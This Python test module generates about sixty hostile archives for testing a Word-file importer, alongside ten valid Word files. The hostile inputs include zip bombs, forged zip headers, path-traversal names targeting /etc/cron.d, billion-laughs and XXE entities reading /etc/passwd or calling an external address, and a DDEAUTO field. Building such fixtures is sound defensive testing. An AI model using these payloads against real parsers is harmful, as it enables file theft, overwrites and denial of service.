"""Sixty hostile zips and Word files, and ten good ones beside them that must be read."""

import io
import struct
import tarfile
import zipfile
import zlib

from tests.corpus.making import (
    ABOUT,
    NUMBERS,
    RELATIONS,
    STYLES,
    TYPES,
    WORD,
    paragraph,
    word_document,
    word_file,
    word_parts,
    zipped,
)

STORY = paragraph("Thirty people are waiting at the school in Lower Sarn.")
STYLED = '<w:pPr><w:pStyle w:val="{}"/></w:pPr>'
LISTED = '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="7"/></w:numPr></w:pPr>'


def good_words() -> dict[str, bytes]:
    """Ten Word files as Office programs write them; each holds the word "Sarn"."""
    table = "".join(
        f"<w:tr><w:tc>{paragraph(left)}</w:tc><w:tc>{paragraph(right)}</w:tc></w:tr>"
        for left, right in (("Place", "People"), ("Sarn", "30"))
    )
    stored = zipped(word_parts(STORY), zipfile.ZIP_STORED)
    return {
        "plain": word_file(STORY),
        "stored": stored,
        "styles": word_file(paragraph("Sarn", STYLED.format("H1")) + STORY, word__styles=STYLES),
        "numbered": word_file(paragraph("At Sarn", LISTED) * 3, word__numbering=NUMBERS),
        "table": word_file(f"<w:tbl>{table}</w:tbl>"),
        "about": word_file(STORY, docProps__core=ABOUT),
        "picture inside": zipped([*word_parts(STORY).items(), ("word/media/image1.png", b"\x89PNG" + bytes(range(256)) * 90)]),
        "folders": zipped([("word/", b""), ("_rels/", b""), *word_parts(STORY).items()]),
        "long": word_file(STORY * 5_000),
        "written to a stream": _streamed(),
    }


def _streamed() -> bytes:
    """Lengths behind each part, as programs write that cannot go back."""

    class Forward(io.RawIOBase):
        def __init__(self) -> None:
            self.kept = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, data: object) -> int:
            self.kept += bytes(data)  # type: ignore[call-overload]
            return len(bytes(data))  # type: ignore[call-overload]

    into = Forward()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as archive:  # type: ignore[type-var]
        for name, data in word_parts(STORY).items():
            archive.writestr(name, data)
    return bytes(into.kept)


def hostile_archives(address: str) -> dict[str, bytes]:
    """Sixty files by name. None may be read as an article, but for those whose name begins with "read:"."""
    files = _bombs() | _places() | _names() | _kinds() | _markup(address)
    assert len(files) >= 60, len(files)
    return files


def _bombs() -> dict[str, bytes]:
    zeros = bytes(30_000_000)
    inner = zipped({"0": zeros})
    million = paragraph("x" * 1_000_000)
    return {
        "30 MB of zeros": zipped([*word_parts(STORY).items(), ("word/media/a.bin", zeros)]),
        "document of 60 MB": word_file(paragraph("x" * 60_000_000)),
        "50 parts of 3 MB": zipped([*word_parts(STORY).items(), *((f"word/m{at}.bin", bytes(3_000_000)) for at in range(50))]),
        "1,001 parts": zipped([*word_parts(STORY).items(), *((f"word/m{at}.xml", b"<a/>") for at in range(1_001))]),
        "20,000 parts": zipped([*word_parts(STORY).items(), *((f"m{at}", b"") for at in range(20_000))], zipfile.ZIP_STORED),
        "zip of zips": zipped({f"{at}.zip": inner for at in range(20)}),
        "zip in a Word file": zipped([*word_parts(STORY).items(), ("word/embeddings/a.zip", inner)]),
        "zip under another name": zipped([*word_parts(STORY).items(), ("word/media/image1.png", inner)], zipfile.ZIP_STORED),
        "Word in Word": zipped([*word_parts(STORY).items(), ("word/embeddings/a.docx", word_file(STORY))]),
        "signs without end": word_file(million),
        "deep tables": word_file("<w:tbl><w:tr><w:tc>" * 200 + STORY + "</w:tc></w:tr></w:tbl>" * 200),
        "deep controls": word_file("<w:sdt><w:sdtContent>" * 100 + STORY + "</w:sdtContent></w:sdt>" * 100),
        "very deep controls": word_file("<w:sdt><w:sdtContent>" * 3_000 + STORY + "</w:sdtContent></w:sdt>" * 3_000),
        "deep runs": word_file("<w:p>" + "<w:smartTag>" * 5_000 + "<w:r><w:t>x</w:t></w:r>" + "</w:smartTag>" * 5_000 + "</w:p>"),
        "200,000 paragraphs": word_file(paragraph("x1") * 200_000),
    }


def _directory_of(good: bytes) -> int:
    return struct.unpack_from("<I", good, len(good) - 6)[0]


def _changed(good: bytes, signature: bytes, at: int, form: str, value: int, which: int = 0) -> bytes:
    """A copy with one number changed, counted from the `which`th signature."""
    spoiled = bytearray(good)
    place = -1
    for _time in range(which + 1):
        place = spoiled.index(signature, place + 1)
    struct.pack_into(form, spoiled, place + at, value)
    return bytes(spoiled)


def _places() -> dict[str, bytes]:
    good, stored = word_file(STORY), zipped(word_parts(STORY), zipfile.ZIP_STORED)
    central, local, end = b"PK\x01\x02", b"PK\x03\x04", b"PK\x05\x06"
    return {
        "cut": good[:-30],
        "cut in the middle": good[: len(good) // 2],
        "without its end": good[: good.rindex(end)],
        "lead alone": local,
        "noise": local + bytes(range(256)) * 200,
        "something before": b"PK\x03\x04" + bytes(60) + good,
        "something behind": good + b"<html><script>UNSEEN</script></html>" * 2_000,
        "overlapping": _changed(good, central, 42, "<I", 0, which=1),
        "all at one place": _overlapping(),
        "beyond the end": _changed(good, central, 42, "<I", 0x7FFFFFFF, which=1),
        "other name inside": good.replace(b"word/document.xml", b"word/Document.xml", 1),
        "smaller than it is": _changed(good, central, 24, "<I", 10, which=2),
        "larger than it is": _changed(good, central, 24, "<I", 60_000, which=2),
        "packed length wrong": _changed(good, central, 20, "<I", 5, which=2),
        "checksum wrong": _changed(_changed(good, central, 16, "<I", 1, which=2), local, 14, "<I", 1, which=2),
        "unknown packing": _changed(_changed(good, central, 10, "<H", 99, which=2), local, 8, "<H", 99, which=2),
        "packing differs": _changed(good, local, 8, "<H", 0, which=2),
        "bzip2": zipped(word_parts(STORY), zipfile.ZIP_BZIP2),
        "lzma": zipped(word_parts(STORY), zipfile.ZIP_LZMA),
        "locked": _changed(_changed(good, central, 8, "<H", 1, which=2), local, 6, "<H", 1, which=2),
        "two parts said": _changed(good, end, 10, "<H", 2),
        "directory elsewhere": _changed(good, end, 16, "<I", 0x7FFFFFF0),
        "directory in itself": _changed(good, end, 16, "<I", _directory_of(good) - 20),
        "zip64 lies": _zip64(good),
        "broken packing": _spoiled(good),
        "both zip and tar": _tar_named(stored),
    }


def _spoiled(good: bytes) -> bytes:
    spoiled = bytearray(good)
    place = spoiled.index(b"word/document.xml") + 17
    spoiled[place : place + 40] = b"\xff" * 40
    return bytes(spoiled)


def _overlapping() -> bytes:
    """Many names in the directory for one packed part, the part a bomb of its own."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in word_parts(STORY).items():
            archive.writestr(name, data)
        archive.writestr("word/bomb.bin", bytes(3_000_000))
        bomb = archive.getinfo("word/bomb.bin")
        for number in range(200):
            twin = zipfile.ZipInfo(f"word/bomb{number}.bin")
            for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(twin, name, getattr(bomb, name))
            archive.filelist.append(twin)
    return into.getvalue()


def _zip64(good: bytes) -> bytes:
    """Lengths that stand in an extra field, which says four exabytes."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as archive:
        for name, data in word_parts(STORY).items():
            part = zipfile.ZipInfo(name)
            archive.writestr(part, data)
            part.extra = struct.pack("<HHQQ", 1, 16, 1 << 62, 1 << 62) if name == "word/document.xml" else b""
            if part.extra:
                part.file_size, part.compress_size = 0xFFFFFFFF, 0xFFFFFFFF
    return into.getvalue() if len(good) else b""


def _tar_named(stored: bytes) -> bytes:
    """A tar whose first name begins like a zip."""
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w") as archive:
        part = tarfile.TarInfo("PK\x03\x04.docx")
        part.size = len(stored)
        archive.addfile(part, io.BytesIO(stored))
    return into.getvalue()


def _with_name(name: str, mode: int = 0) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as archive:
        for usual, data in word_parts(STORY).items():
            archive.writestr(usual, data)
        part = zipfile.ZipInfo("x")
        part.filename = name  # as it is: ZipInfo would make it safe
        part.orig_filename = name
        part.external_attr = mode << 16
        archive.writestr(part, b"/etc/passwd")
    return into.getvalue()


def _names() -> dict[str, bytes]:
    twice = zipped([*word_parts(STORY).items(), ("word/Document.xml", b"<a/>")])
    return {
        "two folders up": _with_name("../../etc/cron.d/x"),
        "whole path": _with_name("/etc/cron.d/x"),
        "backslashes up": _with_name("..\\..\\windows\\x"),
        "drive": _with_name("C:\\windows\\x"),
        "share": _with_name("\\\\server\\share\\x"),
        "link": _with_name("word/link", 0o120777),
        "device": _with_name("word/device", 0o020666),
        "pipe": _with_name("word/pipe", 0o010666),
        "long name": _with_name("a/" * 3_000),
        "same name in other letters": twice,
    }


def _kinds() -> dict[str, bytes]:
    types = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return {
        "empty zip": zipped({}),
        "zip of a text": zipped({"a.txt": "Thirty people at Sarn."}),
        "spreadsheet": zipped(
            {"[Content_Types].xml": TYPES.replace("wordprocessingml", "spreadsheetml"), "xl/workbook.xml": "<a/>"}
        ),
        "slides": zipped({"[Content_Types].xml": "<a/>", "ppt/presentation.xml": "<a/>"}),
        "open document": zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}),
        "types of another kind": zipped(word_parts(STORY) | {"[Content_Types].xml": f"<Types><a b='{types}'/></Types>"}),
        "no types": zipped({"word/document.xml": word_document(STORY)}),
        "no document": zipped({"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS}),
        "gzip": b"\x1f\x8b" + zlib.compress(bytes(1_000)),
        "old Office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    }


def _markup(address: str) -> dict[str, bytes]:
    lol = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
    evil = f'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "{address}/y">]>'
    parts = word_parts(STORY)
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{address}/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    field = f'<w:p><w:r><w:instrText> INCLUDETEXT "{address}/f" DDEAUTO c:\\\\x </w:instrText></w:r></w:p>'
    return {
        "billion laughs": zipped(
            parts | {"word/document.xml": word_document(paragraph("&l9;"), f'<!DOCTYPE d [<!ENTITY l0 "lol">{lol}]>')}
        ),
        "outside entities": zipped(parts | {"word/document.xml": word_document(paragraph("&x;&y;"), evil)}),
        "entities in the types": zipped(parts | {"[Content_Types].xml": TYPES.replace("<Types", evil + "<Types")}),
        "entities in the styles": word_file(STORY, word__styles=evil + STYLES),
        "entities in UTF-16": zipped(
            parts | {"word/document.xml": word_document(paragraph("&x;"), evil).replace("UTF-8", "UTF-16").encode("utf-16")}
        ),
        "broken markup": zipped(parts | {"word/document.xml": word_document(STORY)[:-30]}),
        "not markup": zipped(parts | {"word/document.xml": b"\x00\x01\x02" * 50}),
        "no body": zipped(parts | {"word/document.xml": f'<w:document xmlns:w="{WORD}"/>'}),
        "empty body": word_file(""),
        "read: template elsewhere": word_file(STORY, word___rels__settings=relations),
        "read: fields that ask": word_file(field + STORY),
    }
